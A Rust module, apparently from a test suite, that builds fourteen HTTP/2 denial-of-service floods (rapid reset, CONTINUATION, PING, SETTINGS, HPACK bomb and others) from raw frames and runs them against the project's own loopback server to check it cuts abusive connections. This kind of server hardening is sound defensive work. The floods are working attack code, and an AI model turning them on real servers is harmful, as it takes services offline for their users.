//! Clients of HTTP/2 that send what costs a server more than them. Only for servers of our own, on loopback.

use crate::load::Target;
use anyhow::{Context, Result};
use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames, or pairs of frames, of one write.
const PIECE: u32 = 100;
/// A connection is closed by the attacker after that: some floods are only borne. Where it is to be cut, the attacker goes on
/// more slowly.
const PIECES_MAX: u32 = 400;

/// One kind of flood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Flood {
    /// What it is called.
    pub name: &'static str,
    /// Whether the server must end the connection: else it is enough that it costs nothing.
    pub is_cut: bool,
    /// Whether the attacker reads what is answered.
    reads: bool,
    kind: Kind,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    RapidReset,
    ResetByError,
    Continuation,
    Ping,
    Settings,
    Priority,
    EmptyData,
    WindowUpdate,
    Unknown,
    StreamsBeyondTheLimit,
    HpackBomb,
}

/// All floods.
pub const FLOODS: [Flood; 14] = [
    cut("rapid reset", true, Kind::RapidReset),
    cut("rapid reset, nothing read", false, Kind::RapidReset),
    cut("resets by errors", true, Kind::ResetByError),
    cut("CONTINUATION", true, Kind::Continuation),
    cut("PING", true, Kind::Ping),
    cut("PING, nothing read", false, Kind::Ping),
    cut("SETTINGS", true, Kind::Settings),
    cut("SETTINGS, nothing read", false, Kind::Settings),
    cut("PRIORITY", true, Kind::Priority),
    cut("empty DATA", true, Kind::EmptyData),
    cut("WINDOW_UPDATE", true, Kind::WindowUpdate),
    cut("unknown frames", true, Kind::Unknown),
    cut("streams beyond the limit", true, Kind::StreamsBeyondTheLimit),
    Flood { name: "HPACK bomb", is_cut: false, reads: true, kind: Kind::HpackBomb },
];

const fn cut(name: &'static str, reads: bool, kind: Kind) -> Flood {
    Flood { name, is_cut: true, reads, kind }
}

/// What attackers did.
#[derive(Debug, Default)]
pub struct Tally {
    /// Connections that the server ended.
    pub cut: AtomicU64,
    /// Connections that the attackers ended themselves.
    pub borne: AtomicU64,
    /// Bytes sent, within TLS.
    pub bytes: AtomicU64,
}

/// Attackers; they end when this is dropped.
pub struct Attack {
    /// What they did so far.
    pub tally: Arc<Tally>,
    attackers: JoinSet<Result<()>>,
    over: Arc<AtomicBool>,
}

impl Attack {
    /// Starts attackers with one connection each; one that was cut comes again after `pause`.
    pub fn start(target: &Target, flood: Flood, attackers: usize, pause: Duration) -> Self {
        let (tally, over) = (Arc::new(Tally::default()), Arc::new(AtomicBool::new(false)));
        let mut attack = Self { tally: tally.clone(), attackers: JoinSet::new(), over: over.clone() };
        for _ in 0..attackers {
            let (target, tally, over) = (target.clone(), tally.clone(), over.clone());
            attack.attackers.spawn(async move {
                while !over.load(Ordering::Relaxed) {
                    once(&target, flood, &tally, &over).await?;
                    tokio::time::sleep(pause).await;
                }
                Ok(())
            });
        }
        attack
    }

    /// Lets them finish.
    ///
    /// # Errors
    /// When one could not connect.
    pub async fn end(mut self) -> Result<Arc<Tally>> {
        self.over.store(true, Ordering::Relaxed);
        while let Some(ended) = self.attackers.join_next().await {
            ended??;
        }
        Ok(self.tally.clone())
    }
}

/// One connection until one side has enough.
async fn once(target: &Target, flood: Flood, tally: &Tally, over: &AtomicBool) -> Result<()> {
    let stream = target.connect(true).await.context("an attacker cannot connect")?;
    let (mut read, mut write) = tokio::io::split(stream);
    let mut answers = vec![0; 16 * 1024];
    let flooding = async {
        write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
        for number in 0.. {
            if over.load(Ordering::Relaxed) || (number >= PIECES_MAX && !flood.is_cut) {
                break;
            }
            // All may have gone into buffers before the server looked at it.
            if number >= PIECES_MAX {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
            let piece = flood.piece(number);
            write.write_all(&piece).await?;
            write.flush().await?;
            tally.bytes.fetch_add(piece.len() as u64, Ordering::Relaxed);
        }
        std::io::Result::Ok(())
    };
    let reading = async {
        if !flood.reads {
            std::future::pending::<()>().await;
        }
        while read.read(&mut answers).await.is_ok_and(|read| read > 0) {}
    };
    let was_cut = tokio::select! {
        flooded = flooding => flooded.is_err(),
        () = reading => true,
    };
    let count = if was_cut { &tally.cut } else { &tally.borne };
    count.fetch_add(1, Ordering::Relaxed);
    Ok(())
}

impl Flood {
    fn piece(self, number: u32) -> Vec<u8> {
        let streams = (0..PIECE).map(move |n| 2 * (PIECE * number + n) + 1);
        let open = |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET"));
        let begun = |stream| frame(HEADERS, END_HEADERS, stream, &head("POST"));
        let first = |bytes: Vec<u8>| if number == 0 { bytes } else { Vec::new() };
        let many = |one: Vec<u8>| one.repeat(PIECE as usize);
        match self.kind {
            Kind::RapidReset => streams
                .flat_map(|stream| [open(stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat())
                .collect(),
            // Each is an error of its stream; the client need send no reset.
            Kind::ResetByError => streams
                .flat_map(|stream| [begun(stream), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat())
                .collect(),
            Kind::Continuation => {
                let crumb = frame(CONTINUATION, 0, 1, &field("x", "y"));
                [first(frame(HEADERS, 0, 1, &head("GET"))), many(crumb)].concat()
            }
            Kind::Ping => many(frame(PING, 0, 0, &[0; 8])),
            Kind::Settings => many(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0])),
            Kind::Priority => many(frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 0])),
            Kind::EmptyData => [first(begun(1)), many(frame(DATA, 0, 1, &[]))].concat(),
            Kind::WindowUpdate => many(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
            Kind::Unknown => many(frame(0x77, 0, 0, &[])),
            Kind::StreamsBeyondTheLimit => streams.flat_map(begun).collect(),
            Kind::HpackBomb => {
                // A large field enters the table once; each further byte stands for it (RFC 7541 §6.1).
                let large = [&[0x40][..], &field("x", &"y".repeat(3000))[1..]].concat();
                let bomb = [head("GET"), if number == 0 { large } else { vec![0xbe; 8_000] }].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &bomb)
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames here are short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn head(method: &str) -> Vec<u8> {
    let fields =
        [(":method", method), (":scheme", "https"), (":authority", "www.edge.localhost"), (":path", "/")];
    fields.iter().flat_map(|(name, value)| field(name, value)).collect()
}

/// A literal that enters no table and uses no Huffman code (RFC 7541 §6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        let mut rest = text.len();
        if rest < 127 {
            bytes.push(rest as u8);
        } else {
            bytes.push(127);
            rest -= 127;
            while rest >= 128 {
                bytes.push((rest % 128) as u8 | 128);
                rest /= 128;
            }
            bytes.push(rest as u8);
        }
        bytes.extend_from_slice(text.as_bytes());
    }
    bytes
}
